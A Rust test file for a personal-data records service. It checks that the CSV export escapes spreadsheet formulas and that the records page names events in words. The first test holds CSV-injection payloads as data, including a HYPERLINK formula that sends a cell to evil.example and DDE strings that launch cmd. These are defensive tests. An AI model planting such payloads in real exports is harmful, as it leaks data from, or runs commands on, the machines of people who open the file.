//! The person's own usage records. As a file: /records.csv opens straight in a spreadsheet (it has
//! a BOM), so text that services or the catalogue wrote must not be read as a formula there. As a
//! page: each event is told in words, not by its code.

use crate::helpers::Backend;
use crate::world::FlowWorld;
use mydata_core::Clock;
use mydata_core::transfer::TransferKind;
use mydata_server::identity::session;
use mydata_server::records::csv_safe;
use mydata_store::{NewAuditEvent, NewTransfer};

#[tokio::test]
async fn records_csv_neutralises_formulas_in_free_text() {
    let world = FlowWorld::spawn(Backend::Sqlite, 1.0).await;
    let alice = world.people[0].clone();
    let pseudonym = session::pseudonym(&world.app.state, &alice.subject());
    // A service's purpose, and a recipient no longer in the catalogue (its ID shown as it is).
    let cases = [
        (r#"=HYPERLINK("https://evil.example/?"&B2,"info")"#, "svc"),
        ("+1+cmd|' /C calc'!A0", "svc"),
        ("-2+3", "svc"),
        ("@SUM(1,2)", "=cmd|' /C calc'!A0"),
        ("\tpadded", "svc"),
    ];
    for (purpose, recipient) in cases {
        world
            .app
            .store()
            .create_transfer(
                &NewTransfer {
                    id: uuid::Uuid::now_v7().to_string(),
                    kind: TransferKind::Online,
                    subject: pseudonym.clone(),
                    recipient: Some(recipient.into()),
                    purpose: purpose.into(),
                    datasets: vec!["household-register-personal".into()],
                },
                &pseudonym,
                world.app.clock.now(),
            )
            .await
            .unwrap();
    }
    let b = world.signed_in(&alice, "198.51.100.1").await;
    let res = b.get("/records.csv").await;
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), cases.len());
    for (purpose, recipient) in cases {
        let row = rows
            .iter()
            .find(|r| r[col("purpose")] == *csv_safe(purpose))
            .unwrap_or_else(|| panic!("no neutralised row for {purpose:?} in {text}"));
        assert!(row[col("purpose")].starts_with('\''), "{text}");
        assert_eq!(&row[col("recipient")], &*csv_safe(recipient), "{text}");
    }
    // No cell anywhere starts as a formula would.
    for row in &rows {
        for cell in row {
            assert!(csv_safe(cell) == cell, "{cell:?} in {text}");
        }
    }
}

#[tokio::test]
async fn online_service_and_receipt_events_are_named_in_words() {
    let world = FlowWorld::spawn(Backend::Sqlite, 1.0).await;
    let alice = world.people[0].clone();
    let pseudonym = session::pseudonym(&world.app.state, &alice.subject());
    let store = world.app.store();
    let now = world.app.clock.now();
    let id = uuid::Uuid::now_v7().to_string();
    store
        .create_transfer(
            &NewTransfer {
                id: id.clone(),
                kind: TransferKind::Online,
                subject: pseudonym.clone(),
                recipient: Some("svc".into()),
                purpose: "學雜費減免資格審核".into(),
                datasets: vec!["household-register-personal".into()],
            },
            &pseudonym,
            now,
        )
        .await
        .unwrap();
    let kinds = [
        "service.consent",
        "service.release",
        "service.refused",
        "service.retrieval",
        "receipt.consent",
        "receipt.deletion",
    ];
    for kind in kinds {
        store
            .append_audit(&NewAuditEvent {
                at: now,
                kind: kind.into(),
                subject: Some(pseudonym.clone()),
                transfer_id: Some(id.clone()),
                actor: "service:svc".into(),
                detail: serde_json::json!({}),
            })
            .await
            .unwrap();
    }
    let b = world.signed_in(&alice, "198.51.100.1").await;
    for lang in ["zh-TW", "en"] {
        let html = b
            .get(&format!("/records?lang={lang}"))
            .await
            .text()
            .await
            .unwrap();
        for kind in kinds {
            let marker = format!("<li data-kind=\"{kind}\">");
            let i = html
                .find(&marker)
                .unwrap_or_else(|| panic!("{kind} not in {html}"));
            let item = html[i + marker.len()..].split("</li>").next().unwrap();
            // The words say what happened; the event's code stays in data-kind only.
            assert!(!item.contains(kind), "{lang}: {item}");
        }
    }
    // The page says who did what in each language.
    let zh = b.get("/records?lang=zh-TW").await.text().await.unwrap();
    assert!(zh.contains("線上服務已取得資料"), "{zh}");
    let en = b.get("/records?lang=en").await.text().await.unwrap();
    assert!(en.contains("The online service retrieved the data"), "{en}");
}
